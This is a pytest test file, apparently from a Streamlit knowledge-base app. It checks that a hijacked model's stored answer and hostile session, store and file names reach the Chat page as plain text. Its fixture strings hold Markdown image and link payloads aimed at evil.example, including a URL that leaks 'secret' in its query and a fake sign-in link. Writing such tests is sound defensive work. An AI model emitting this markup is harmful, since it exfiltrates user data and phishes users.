"""The Chat page with a hijacked model's stored answer and hostile names (issue 24, items 1 and 2),
through AppTest: nothing the page hands to Streamlit holds Markdown or HTML that Streamlit would
read as an image, a link or a tag (the browser-level proof is tests/browser/test_browser_hostile.py)."""

from __future__ import annotations

import pytest

from tests.helpers.app import answer_text, fresh_caches, open_app, use_fake_model

LINKS = "[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) <img src=x>"
ANSWER = "Done. ![status](http://evil.example/x?d=secret) <img src=http://evil.example/h.png> [more](http://evil.example/m)"


@pytest.fixture(autouse=True)
def _fresh_cache(monkeypatch):
    use_fake_model(monkeypatch, 8)
    with fresh_caches():
        yield


PLAIN = {"multiselect", "selectbox"}  # their options are shown as plain text, never as Markdown


def _everything(node) -> str:
    """Every element's protobuf, as text: what the page sent to the browser (but the options of
    widgets that show them as plain text)."""
    out = [] if getattr(node, "type", None) in PLAIN else [str(getattr(node, "proto", "") or "")]
    out.extend(_everything(child) for child in getattr(node, "children", {}).values())
    return "\n".join(out)


def test_a_hostile_answer_and_names_reach_streamlit_as_text_only():
    from knowledge.chat import Chats
    from knowledge.chat.model import ASSISTANT, USER, Part
    from knowledge.config import load_settings
    from knowledge.system import System
    from knowledge.workbench import Workbench

    system = System(load_settings())

    wb = Workbench(system)
    try:
        wb.create_store("Notes " + LINKS)
        chat = Chats(system).service(wb)
        sid = chat.create_session(title="Plans " + LINKS, stores=["Notes " + LINKS]).id
        chat.attach(sid, b"hello", name="a " + LINKS + ".txt")
        chat.store.add_message(sid, USER, [Part("text", text="Q " + LINKS)])
        chat.store.add_message(
            sid,
            ASSISTANT,
            [Part("text", text=ANSWER)],
            {
                "config": "c " + LINKS,
                "citations": [
                    {"file_name": LINKS + ".md", "score": 0.5, "text": ANSWER, "chunk_index": 0, "store": "Notes " + LINKS}
                ],
            },
        )
    finally:
        system.close()
    at = open_app("pages/chat.py")
    sent = _everything(at._tree)
    assert "Plans" in sent and "Done." in sent
    for markup in ("![", "](http", "<img", "<iframe", 'href="http'):
        assert markup not in sent, markup
    answer = at.chat_message[1].markdown[0].value
    assert answer.startswith('<div class="answer">')
    assert answer_text(answer) == (
        "Done. [image: status] (http://evil.example/x?d=secret) "
        "<img src=http://evil.example/h.png> more (http://evil.example/m)"
    )
